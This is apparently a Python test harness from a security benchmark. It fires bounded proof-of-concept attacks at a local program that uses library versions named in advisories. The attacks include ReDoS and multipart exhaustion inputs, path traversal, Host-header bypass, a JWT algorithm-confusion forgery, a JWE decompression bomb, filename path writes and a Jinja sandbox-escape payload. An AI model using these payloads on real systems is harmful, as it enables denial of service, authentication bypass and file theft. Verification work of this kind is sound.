"""Attacks a small program with the library of an advisory at a weak version: `python attack.py NAME FOLDER` prints whether it was hurt.

Every attack is bounded: work by a limit of time, memory by what is sent. It reads and writes nothing outside of FOLDER and a folder beside it.
"""
import asyncio
import hashlib
import hmac
import base64
import json
import logging
import os
import resource
import sys
import tempfile
import threading
import tracemalloc

TIMES = 5  # that much more work than for a harmless input of the same length is hurt, however fast the machine
NOISE = 0.01  # seconds that two runs of the same differ by
CAP = 4  # seconds, where work is stopped


async def ask(app, method, path, headers=(), body=b"", query=b""):
    """One request by ASGI itself, the path as it is written."""
    sent = []
    pieces = [body[at : at + 65536] for at in range(0, len(body), 65536)] or [b""]

    async def receive():
        if not pieces:
            return {"type": "http.disconnect"}
        piece = pieces.pop(0)
        return {"type": "http.request", "body": piece, "more_body": bool(pieces)}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http", "path": path,
        "raw_path": path.encode(), "query_string": query, "root_path": "", "headers": [(k.lower().encode(), v.encode()) for k, v in headers],
        "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80),
    }
    try:
        await app(scope, receive, send)
    except Exception as error:
        return {"status": 500, "body": repr(error).encode()}
    status = next((m["status"] for m in sent if m["type"] == "http.response.start"), 0)
    return {"status": status, "body": b"".join(m.get("body", b"") for m in sent)}


def send(app, *args, **named):
    return asyncio.run(ask(app, *args, **named))


def worked(work):
    """Seconds that the processor worked, at most CAP: in a process of its own, since compiled code takes no notice of signals."""
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_CPU, (CAP, CAP + 1))
        work()
        os._exit(0)
    usage = os.wait4(child, 0)[2]
    return usage.ru_utime + usage.ru_stime


def slow(attack, harmless):
    """Two requests of the same length. What is made once, with the first request, counts for neither."""
    harmless()
    calm = min(worked(harmless) for _ in range(3))
    hurt = worked(attack)
    return {"hurt": hurt > TIMES * max(calm, NOISE), "measure": f"{hurt:.2f} s in place of {calm:.3f} s"}


def grown(work):
    """Megabytes that were kept at once."""
    tracemalloc.start()
    work()
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return peak


def multipart(parts, before=b""):
    lines = [before]
    for headers, body in parts:
        lines += [b"--x\r\n", headers, b"\r\n\r\n", body, b"\r\n"]
    return b"".join([*lines, b"--x--\r\n"])


FIELD = b'Content-Disposition: form-data; name="name"'
FILE = b'Content-Disposition: form-data; name="file"; filename="f"'
FORM = [("Content-Type", "multipart/form-data; boundary=x")]
URLENCODED = [("Content-Type", "application/x-www-form-urlencoded")]


def content_type(main):
    def run(letter):
        header = 'application/x-www-form-urlencoded; !="' + letter * 60
        return lambda: send(main.app, "POST", "/run", [("Content-Type", header)], b"name=a")

    return slow(run("\\"), run("a"))


def many_fields(main):
    answer = send(main.app, "POST", "/run", FORM, multipart([(b'Content-Disposition: form-data; name="name"', b"a")] * 5000))
    return {"hurt": answer["status"] == 200 and answer["body"] == b'"a"', "measure": f"5000 fields: {answer['status']}"}


def large_field(main):
    body = multipart([(FIELD, b"a" * 1_000_000)])
    # What is made once, with the first request, does not count.
    send(main.app, "POST", "/run", FORM, multipart([(FIELD, b"a")]))
    peak = grown(lambda: send(main.app, "POST", "/run", FORM, body))
    return {"hurt": peak > 2 * len(body) / 1e6, "measure": f"{peak:.1f} MB kept"}


def rollover(main):
    threads = []
    real = tempfile.SpooledTemporaryFile.rollover

    def noted(self):
        threads.append(threading.current_thread() is threading.main_thread())
        return real(self)

    tempfile.SpooledTemporaryFile.rollover = noted
    send(main.app, "POST", "/run", FORM, multipart([(FILE, b"a" * 3_000_000)]))
    return {"hurt": any(threads), "measure": f"written to disk on the event loop: {any(threads)}"}


def urlencoded_limits(main):
    answer = send(main.app, "POST", "/run", URLENCODED, b"&".join(b"f%d=1" % at for at in range(5000)))
    return {"hurt": answer["body"] == b"5000", "measure": answer["body"].decode()[:40]}


def neighbour(main):
    answer = send(main.app, "GET", "/static/../static_private/key.txt")
    if answer["status"] != 200:
        answer = send(main.app, "GET", "/static/../private/key.txt")
    return {"hurt": b"canary" in answer["body"], "measure": str(answer["status"])}


def ranges(main):
    header = "bytes=" + ",".join(f"{at}-{at}" for at in range(0, 12000, 2))
    return slow(*(lambda name=name: send(main.app, "GET", "/static/large.txt", [(name, header)]) for name in ("Range", "Other")))


def host_header(main):
    # With a port, so that the name before it is one that is trusted.
    answer = send(main.app, "GET", "/admin", [("Host", "a.example:80/public?")])
    return {"hurt": answer["status"] == 200, "measure": str(answer["status"])}


def path_host(main):
    answer = send(main.app, "GET", "@trusted.example", [("Host", "a.example")])
    return {"hurt": b"trusted" in answer["body"], "measure": answer["body"].decode()[:60]}


def endpoint_method(main):
    answer = send(main.app, "PURGE", "/reports")
    return {"hurt": answer["body"] == b"gone", "measure": str(answer["status"])}


def value(main, text):
    return lambda: send(main.app, "POST", "/run", [("Content-Type", "application/json")], json.dumps({"value": text}).encode())


def email(main):
    return slow(value(main, " " * 30000), value(main, "a" * 30000))


def infinity(main):
    return slow(value(main, "infinity"), value(main, "20200102"))


def plain_json(main):
    answer = send(main.app, "POST", "/run", [("Content-Type", "text/plain"), ("Cookie", "session=s")], b'{"value": "sent"}')
    return {"hurt": b"sent" in answer["body"] and answer["status"] == 200, "measure": str(answer["status"])}


def preamble(main):
    logging.basicConfig(stream=open(os.devnull, "w"), level=logging.WARNING)
    long = b"\r\n" * 1_500_000
    forms = (multipart([(FIELD, b"a")], before=long), multipart([(FIELD, b"a" + long)]))
    return slow(*(lambda form=form: send(main.app, "POST", "/run", FORM, form) for form in forms))


def semicolons(main):
    # Whole, as a server hands over what comes in one piece.
    async def run(body):
        pieces = [{"type": "http.request", "body": body, "more_body": False}]

        async def receive():
            return pieces.pop() if pieces else {"type": "http.disconnect"}

        async def out(_):
            pass

        scope = {"type": "http", "method": "POST", "path": "/run", "raw_path": b"/run", "query_string": b"", "root_path": "", "http_version": "1.1",
                 "scheme": "http", "headers": [(b"content-type", b"application/x-www-form-urlencoded")], "asgi": {"version": "3.0"},
                 "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80)}
        await main.app(scope, receive, out)

    return slow(lambda: asyncio.run(run(b"a;" * 200_000)), lambda: asyncio.run(run(b"a=" + b"b" * 399_998)))


def kept_name(main):
    target = os.path.join(tempfile.mkdtemp(), "canary")
    head = f'Content-Disposition: form-data; name="file"; filename="{target}"'.encode()
    answer = send(main.app, "POST", "/run", FORM, multipart([(head, b"a" * 100)]))
    return {"hurt": os.path.exists(target), "measure": str(answer["status"])}


def negative_length(main):
    sizes = []

    class Stream:
        def read(self, size=-1):
            sizes.append(size)
            return b""

    main.read({"Content-Type": b"multipart/form-data; boundary=x", "Content-Length": b"-1"}, Stream())
    return {"hurt": any(size < 0 for size in sizes), "measure": f"asked for {sizes[:1]} bytes"}


def encode(part):
    return base64.urlsafe_b64encode(part if isinstance(part, bytes) else json.dumps(part).encode()).rstrip(b"=")


def signed(header, claims, key):
    text = encode(header) + b"." + encode(claims)
    return (text + b"." + encode(hmac.new(key, text, hashlib.sha256).digest())).decode()


def confusion(main):
    token = signed({"alg": "HS256", "typ": "JWT"}, {"sub": "admin"}, main.PUBLIC.encode())
    try:
        hurt = main.read(token)["sub"] == "admin"
    except Exception as error:
        return {"hurt": False, "measure": type(error).__name__}
    return {"hurt": hurt, "measure": "a token signed by the public key was taken"}


def bomb(main):
    from jose import jwe

    token = jwe.encrypt(b"0" * 30_000_000, main.KEY, algorithm="dir", encryption="A256GCM", zip="DEF")

    def work():
        try:
            main.read(token)
        except Exception:
            pass

    peak = grown(work)
    return {"hurt": peak > 30, "measure": f"{len(token) / 1e3:.0f} kB became {peak:.0f} MB"}


def part_of_issuer(main):
    import jwt

    return taken(main, jwt.encode({"iss": "https://id"}, main.KEY, algorithm="HS256"))


def critical(main):
    import jwt

    return taken(main, jwt.encode({"sub": "a"}, main.KEY, algorithm="HS256", headers={"crit": ["x-bound"], "x-bound": True}))


def taken(main, token):
    try:
        main.read(token)
    except Exception as error:
        return {"hurt": False, "measure": type(error).__name__}
    return {"hurt": True, "measure": "the token was taken"}


def opened_file(main):
    path = os.path.join(tempfile.mkdtemp(), "keys.json")
    with open(path, "w") as file:
        json.dump({"keys": [{"kty": "oct", "k": "Y2FuYXJ5", "kid": "canary"}]}, file)
    answer = send(main.app, "GET", "/run", query=f"q=file://{path}".encode())
    return {"hurt": b"canary" in answer["body"], "measure": str(answer["status"])}


def attributes(main):
    answer = send(main.app, "GET", "/run", query=b"q=class%20onclick")
    return {"hurt": b" onclick=" in answer["body"], "measure": answer["body"].decode()[:60]}


def sandbox(main):
    answer = send(main.app, "GET", "/run", query=b"q={{('{0.__class__.__mro__}')|attr('format')(1)}}")
    return {"hurt": b"class" in answer["body"] and b"int" in answer["body"], "measure": answer["body"].decode()[:60]}


if __name__ == "__main__":
    name, folder = sys.argv[1:]
    sys.path.insert(0, folder)
    os.chdir(folder)
    import main as program

    print(json.dumps(globals()[name](program)))
